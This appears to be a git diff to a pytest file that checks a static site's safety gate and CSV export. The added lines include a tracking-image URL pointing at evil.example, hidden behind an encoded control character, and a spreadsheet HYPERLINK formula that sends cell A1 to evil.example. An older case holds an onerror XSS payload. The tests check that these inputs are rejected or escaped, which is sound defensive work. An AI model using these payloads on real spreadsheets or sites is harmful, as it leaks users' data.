@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+from dataclasses import replace
 
 import pytest
 from conftest import REPO
@@ -81,6 +82,7 @@ def test_the_charts_are_drawn_the_same_every_time(sample):
         '<img src="chart.svg">',
         '<img src="chart.svg" alt="a chart" onerror="alert(1)">',
         '<img src="chart.svg?x=1.svg" alt="a chart">',
+        '<img src="&#1;//evil.example/track.svg" alt="a chart">',
     ],
 )
 def test_the_gate_allows_only_a_chart_of_this_site_as_an_image(image):
@@ -103,3 +105,13 @@ def test_the_gate_finds_what_is_planted_in_a_chart(site_room, tmp_path):
     assert "releases-per-year.svg: svg image: [active-content]" in outcome.stderr
     assert "releases-per-year.svg: file text: [personal-identifier] ssn" in outcome.stderr
     assert "123-45-6789" not in outcome.stderr
+
+
+def test_a_hostile_agency_name_is_text_in_the_statistics_csv(sample):
+    release = next(r for r in sample.published if r.documents)
+    hostile = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
+    changed = replace(release, spec=release.spec.model_copy(update={"agency": hostile}))
+    room = replace(sample, releases=tuple(changed if r is release else r for r in sample.releases))
+    files = {f.path: f.content for f in Site(room).statistics_files()}
+    rows = list(csv.reader(io.StringIO(files[urls.statistics_file("pages-per-agency.csv")].decode())))
+    assert ["'" + hostile] in [row[:1] for row in rows]
